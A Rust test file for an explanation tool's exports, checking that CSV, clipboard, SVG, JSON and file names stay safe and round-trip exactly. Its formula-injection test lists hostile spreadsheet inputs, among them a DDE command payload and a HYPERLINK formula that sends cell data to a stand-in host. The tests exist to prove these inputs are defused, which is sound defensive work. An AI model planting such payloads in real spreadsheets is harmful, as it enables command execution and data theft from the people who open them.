//! What leaves the page: figures as CSV and JSON, pictures as SVG, and the names of the files.

use crate::drawings::{self, SHARES, faults, local as explained};
use crate::naughty_strings::NAUGHTY;
use crate::xml;
use std::collections::BTreeMap;
use std::path::Path;
use vitrine::chart;
use vitrine::chart::format::Unit;
use vitrine::explain::{LocalExplanation, Method};
use vitrine::recipe::{Recipe, Source};
use vitrine::share::csv::{self as sheets, Cells, is_formula};
use vitrine::share::{self, Cell, Figures, View, WIDTH};
use vitrine::table::{Dialect, Sheet, Value};

/// A list of texts under `tests/fixtures`.
pub fn texts(name: &str) -> Vec<String> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures").join(name);
    serde_json::from_str(&std::fs::read_to_string(path).expect("a list")).expect("texts")
}

/// All texts that have ever made trouble, and those that are meant to.
fn difficult() -> Vec<String> {
    let naughty = NAUGHTY.iter().map(|t| (*t).to_owned());
    let all: Vec<String> = texts("difficult.json").into_iter().chain(texts("payloads.json")).chain(naughty).collect();
    assert!(all.len() > 600, "{}", all.len());
    all
}

fn view_of(local: &LocalExplanation, subject: &str, source: &str) -> View {
    let order: Vec<usize> = (0..local.attributions.len()).collect();
    let values: Vec<Value> = local.attributions.iter().map(|a| Value::Level(a.feature.clone())).collect();
    let words: Vec<String> = values.iter().map(Value::to_string).collect();
    let unit = Unit::Probability;
    let drawn = drawings::chart(local, &order, &words, subject, unit, WIDTH);
    View {
        name: "SHAP, row 18".to_owned(),
        finding: chart::finding(&drawn),
        scene: Some(chart::waterfall::scene(&drawn)),
        figures: share::local(local, None, &local.names(), &order, &values),
        quality: share::local_facts(local, subject, Some(17), 0.25),
        recipe: Recipe::new(Source::File { name: source.to_owned(), hash: "0123456789abcdef".to_owned() }),
    }
}

/// What another reader of CSV makes of a text.
fn read(csv: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    reader.records().map(|r| r.expect("a record").iter().map(str::to_owned).collect()).collect()
}

fn column_of(texts: &[String]) -> Figures {
    let mut figures = Figures::new(["text", "number"]);
    figures.rows = texts.iter().map(|t| vec![Cell::Text(t.clone()), Cell::Number(-1.5)]).collect();
    figures
}

/// What must never reach a spreadsheet, from the words of OWASP and not from the code: behind anything blank, a sign.
fn computes(cell: &str) -> bool {
    let blank = |c: char| c.is_whitespace() || c.is_control() || "\u{200b}\u{200e}\u{200f}\u{2060}\u{feff}".contains(c);
    let first = cell.trim_start_matches(blank).chars().next();
    let number = cell.trim().parse::<f64>().is_ok_and(f64::is_finite);
    !number
        && (cell.starts_with(['\t', '\r']) || first.is_some_and(|c| "=+-@\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(c)))
}

/// Every sign behind every blank, before everything that it could start.
fn formulas() -> Vec<String> {
    let mut all = Vec::new();
    for sign in ["=", "+", "-", "@", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}"] {
        for before in ["", " ", "\t", "\r", "\n", "\u{a0}", "\u{feff}", "\u{200b}", "\0"] {
            for rest in ["1+1", "cmd|' /C calc'!A1", "HYPERLINK(\"//a.invalid?\"&A2,\"go\")", "SUM(A1:A9)", ""] {
                all.push(format!("{before}{sign}{rest}"));
            }
        }
    }
    all.extend(
        ["\tSUM(1)", "\rSUM(1)", "-1.5e", "+49 30 1234", "--1", "=-1", "-inf", "+NaN", "-1;=1", "-0x10"]
            .map(str::to_owned),
    );
    all
}

#[test]
fn b9_no_text_cell_is_a_formula() {
    let formulas = formulas();
    assert!(formulas.len() >= 200, "{}", formulas.len());
    let back = read(&sheets::write(&column_of(&formulas), Cells::Defused));
    assert_eq!(back.len(), formulas.len() + 1);
    for (row, text) in back[1..].iter().zip(&formulas) {
        // `-1.5` behind a blank is a text and computes to itself; all else that begins like a formula is defused.
        assert!(!computes(&row[0]), "{text:?} became {:?}", row[0]);
        assert!(row[0] == *text || row[0] == format!("'{text}"), "{text:?} became {:?}", row[0]);
        assert_eq!(row[1], "-1.5", "a number was touched");
    }
    // The rule sees what is not defused: written raw, nearly all of them compute.
    let raw = read(&sheets::write(&column_of(&formulas), Cells::Raw));
    assert!(raw[1..].iter().filter(|row| computes(&row[0])).count() >= 200);
    for harmless in ["a=1", "1-1", "", "'=1", "-1.5", "+3", "-2e-9", "a\t=1"] {
        assert!(!is_formula(harmless), "{harmless:?}");
    }
    // Names of columns and what goes to the clipboard too.
    let mut named = Figures::new(["=1+1", "@a"]);
    named.rows.push(vec![Cell::Text("=2".to_owned()), Cell::Number(-2.0)]);
    assert_eq!(sheets::write(&named, Cells::Defused), "'=1+1,'@a\r\n'=2,-2\r\n");
    assert_eq!(sheets::write_for_clipboard(&named), "'=1+1\t'@a\n'=2\t-2\n");
}

#[test]
fn b9_numbers_are_the_same_bits_when_read_again() {
    let odd =
        [-1.5, 0.1 + 0.2, 1e-300, -5e-324, f64::MAX, 1.0 / 3.0, -0.0, 123_456_789.123, 1e15, 1e16, 9007199254740993.0];
    let mut figures = Figures::new(["a"]);
    figures.rows = odd.iter().map(|&v| vec![v.into()]).collect();
    figures.rows.extend([f64::NAN, f64::INFINITY].map(|v| vec![v.into()]));
    let csv = sheets::write(&figures, Cells::Defused);
    let back = read(&csv);
    for (row, v) in back[1..].iter().zip(odd) {
        assert_eq!(row[0].parse::<f64>().map(f64::to_bits), Ok(v.to_bits()), "{v:e} became {}", row[0]);
    }
    assert!(back[odd.len() + 1..].iter().all(|row| row[0].is_empty()), "what is no number is nothing");
    assert!(csv.starts_with("a\r\n-1.5\r\n"));
}

#[test]
fn b8_difficult_texts_come_back_byte_for_byte() {
    let difficult = difficult();
    let raw = sheets::write(&column_of(&difficult), Cells::Raw);
    let defused = sheets::write(&column_of(&difficult), Cells::Defused);
    let (raw_back, defused_back) = (read(&raw), read(&defused));
    assert_eq!(raw_back.len(), difficult.len() + 1);
    for (i, text) in difficult.iter().enumerate() {
        assert_eq!(raw_back[i + 1][0], *text);
        let defused = &defused_back[i + 1][0];
        assert!(defused == text || defused.strip_prefix('\'') == Some(text), "{text:?} became {defused:?}");
    }
    // Our own reader refuses zero bytes, trims cells and takes some words for nothing; else it gives back the same bytes.
    let difficult: Vec<String> = difficult.into_iter().filter(|t| !t.contains('\0')).collect();
    let raw = sheets::write(&column_of(&difficult), Cells::Raw);
    let dialect = Dialect { delimiter: ',', decimal_comma: false, names_on: 1, ..Dialect::default() };
    let sheet = Sheet::parse(raw.as_bytes(), Some(dialect)).expect("a sheet");
    assert_eq!(sheet.n_rows(), difficult.len());
    let mut n_same = 0;
    for (i, text) in difficult.iter().enumerate() {
        match sheet.cell(i, 0) {
            Some(cell) => assert_eq!(cell, text.trim()),
            None => assert!(text.trim().len() <= 6, "{text:?} got lost"),
        }
        n_same += usize::from(sheet.cell(i, 0) == Some(text));
    }
    assert!(n_same > 250, "{n_same}");
    // And as names of columns.
    let mut wide = Figures::new(difficult.clone());
    wide.rows.push(difficult.iter().map(|t| Cell::Text(t.clone())).collect());
    assert_eq!(read(&sheets::write(&wide, Cells::Raw)), [difficult.clone(), difficult]);
}

/// A picture with a text wherever a text can stand.
fn view_with(text: &str) -> View {
    let mut local = explained(Method::KernelShap, 0.3, &SHARES[..3], None);
    local.attributions[0].feature = text.to_owned();
    local.attributions[1].condition = format!("= {text}");
    view_of(&local, text, text)
}

#[test]
fn s9_every_exported_svg_is_sound_and_holds_nothing_that_runs() {
    let names = ["svg", "title", "desc", "rect", "polygon", "polyline", "circle", "text"];
    for text in difficult() {
        for scene in [true, false] {
            let view = view_with(&text);
            let view = if scene { view } else { View { scene: None, ..view } };
            let svg = view.svg();
            let read = xml::read(&svg).unwrap_or_else(|why| panic!("{text:?}: {why}"));
            for (name, attributes) in &read.elements {
                assert!(names.contains(&name.as_str()), "{text:?} made <{name}>");
                for (key, value) in attributes {
                    assert!(!key.starts_with("on") && !key.contains("href") && key != "style", "{text:?} made {key}");
                    let addressed = value.contains("://") && key != "xmlns";
                    assert!(!addressed && !value.contains("url("), "{text:?}: {key}={value}");
                }
            }
            assert_eq!(read.elements.iter().filter(|e| e.0 == "svg").count(), 1);
        }
    }
    // The text is there, and not only the safety.
    let all = xml::read(&view_with("a<b>&\"c\"").svg()).expect("sound").texts.join("\n");
    assert!(all.contains("a<b>&\"c\""), "{all}");
}

#[test]
fn s7_names_of_files_are_safe_whatever_they_are_made_of() {
    for text in difficult() {
        for (view, ending) in [(view_with(&text), "png"), (View { name: text.clone(), ..view_with(&text) }, "csv")] {
            let name = view.file_name(ending);
            let safe = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || "-_.".contains(c);
            assert!(name.chars().all(safe) && !name.contains(".."), "{text:?}: {name}");
            assert!(name.starts_with("vitrine") && name.ends_with(&format!(".{ending}")), "{text:?}: {name}");
            assert!(name.len() <= 80, "{name}");
        }
    }
    let named = share::name::file_name;
    assert_eq!(named(&["vitrine", "german_credit", "SHAP, row 18"], "png"), "vitrine-german_credit-shap-row-18.png");
    assert_eq!(named(&["\u{202e}", "\0", "☃"], "svg"), "vitrine.svg");
    assert_eq!(named(&[], "svg"), "vitrine.svg");
    // A long name of a table leaves the view's name in place.
    let long = named(&["vitrine", &"table ".repeat(40), "SHAP, row 18"], "json");
    assert!(long.len() <= 80 && long.ends_with("-shap-row-18.json"), "{long}");
}

#[test]
fn s7_json_holds_nothing_that_a_page_would_run() {
    for text in difficult() {
        let view = view_with(&text);
        let json = view.json();
        assert!(!json.contains(['<', '>', '&', '\u{2028}', '\u{2029}', '\u{202e}', '\0']), "{text:?}");
        let read: serde_json::Value = serde_json::from_str(&json).expect("JSON");
        assert_eq!(read["rows"][0][0], text, "the text itself is kept");
        assert_eq!(read["recipe"]["source"]["File"]["name"], text);
    }
}

#[test]
fn json_gives_back_recipe_and_figures() {
    let mut local = explained(Method::KernelShap, 0.1 + 0.2, &SHARES, Some(1.0 / 3.0));
    local.quality.residual = -1.1e-16;
    let mut view = view_of(&local, "bad", "own.csv");
    view.recipe.explain.edits = BTreeMap::from([("age".to_owned(), Value::Number(0.1))]);
    let read: serde_json::Value = serde_json::from_str(&view.json()).expect("JSON");
    let recipe: Recipe = serde_json::from_value(read["recipe"].clone()).expect("a recipe");
    assert_eq!(recipe, view.recipe);
    let share = view.figures.columns.iter().position(|c| c == "share").expect("a share");
    for (row, (name, value)) in read["rows"].as_array().expect("rows").iter().zip(SHARES) {
        assert_eq!(row[0], name);
        assert_eq!(row[share].as_f64().map(f64::to_bits), Some(value.to_bits()));
        assert_eq!(row[share + 1].as_f64(), Some(1.0 / 3.0));
    }
    assert_eq!(read["quality"]["base"].as_f64(), Some(0.1 + 0.2));
    assert_eq!(read["quality"]["residual"].as_f64(), Some(-1.1e-16));
}

/// What our own writer writes is what a reader of JSON reads, for every recipe that the tests share and for odd values.
#[test]
fn json_is_what_another_reader_reads() {
    let numbers = [0.1 + 0.2, -0.0, 1e300, 5e-324, -1.5, 1e15, 1e16, 1e21, f64::MIN_POSITIVE];
    let mut recipe = Recipe::new(Source::Sample("iris".to_owned()));
    for (i, (text, number)) in difficult().into_iter().zip(numbers.into_iter().cycle()).enumerate() {
        let value = if i % 2 == 0 { Value::Number(number) } else { Value::Level(text.clone()) };
        recipe.explain.edits.insert(text, value);
    }
    recipe.explain.edits.insert("gone".to_owned(), Value::Missing);
    for depth in [0, 1, 3] {
        let written = share::to_json(&recipe, depth).expect("plain data");
        assert_eq!(serde_json::from_str::<Recipe>(&written).expect("JSON"), recipe, "{written}");
    }
    let odd = (f64::NAN, [Some(1u8), None], 'x', (), 1.5f32);
    let written = share::to_json(&odd, 0).expect("plain data");
    let expected = serde_json::to_value(odd).expect("plain data");
    assert_eq!(serde_json::from_str::<serde_json::Value>(&written).expect("JSON"), expected);
    assert!(share::to_json(&BTreeMap::from([(1, 2)]), 0).is_err(), "a key that is no text");
}

/// The example of `docs/exports.md`, which is what is written, and every name in it is explained there.
#[test]
fn the_document_about_exports_is_true() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/exports.md");
    let text = std::fs::read_to_string(&path).expect("docs/exports.md");
    let local = explained(Method::KernelShap, 0.3, &[("duration", 0.212), ("age", -0.043)], None);
    let view = view_of(&local, "bad", "credit.csv");
    let (before, rest) = text.split_once("```json\n").expect("an example");
    let (example, after) = rest.split_once("```").expect("the example's end");
    if std::env::var_os("VITRINE_BLESS").is_some() {
        std::fs::write(&path, format!("{before}```json\n{}```{after}", view.json())).expect("a writable folder");
    } else {
        assert!(example == view.json(), "the example differs; look at it, then set VITRINE_BLESS=1 to store it");
    }
    let document: serde_json::Value = serde_json::from_str(&view.json()).expect("JSON");
    let fields = document.as_object().expect("an object").keys();
    let facts = document["quality"].as_object().expect("an object").keys();
    for name in fields.chain(facts).chain(&view.figures.columns) {
        assert!(text.contains(&format!("`{name}`")), "docs/exports.md does not explain `{name}`");
    }
}

#[test]
fn a_table_is_drawn_within_its_width() {
    let mut figures = Figures::new(["a name that is much longer than any column has a right to be", "b", "c"]);
    let row =
        |i: usize| vec![Cell::Text("long ".repeat(i)), Cell::Number(i as f64 / 7.0), Cell::Flag(i.is_multiple_of(2))];
    figures.rows = (0..200).map(row).collect();
    for n in [0, 1, 60, 61, 62, 200] {
        let rule = Figures { rows: figures.rows[..n].to_vec(), ..figures.clone() };
        let scene = share::picture::table(&rule, WIDTH);
        assert_eq!(faults(&scene), Vec::<String>::new(), "{n} rows");
    }
    // However many columns there are, a picture has as many as can be read, and says what it leaves out.
    for n in [24, 25, 400] {
        let mut wide = Figures::new((0..n).map(|j| format!("a column of some length, {j}")));
        wide.rows = vec![vec![Cell::Number(1.0 / 7.0); n]; 70];
        let scene = share::picture::table(&wide, WIDTH);
        assert_eq!(faults(&scene), Vec::<String>::new(), "{n} columns");
        assert!(scene.width < 2200.0, "{}", scene.width);
        let words = format!("{:?}", scene.marks);
        let left_out = if n > 24 {
            format!("and 10 more rows and {} more column", n - 24)
        } else {
            "and 10 more rows, ".to_owned()
        };
        assert!(words.contains(&left_out), "{n} columns");
    }
    let local = explained(Method::KernelShap, 0.3, &SHARES, Some(0.02));
    for source in ["german_credit", &"x".repeat(3000)] {
        let view = View { finding: "word ".repeat(120) + &"x".repeat(400), ..view_of(&local, "bad", source) };
        assert_eq!(faults(&view.picture()), Vec::<String>::new());
    }
}
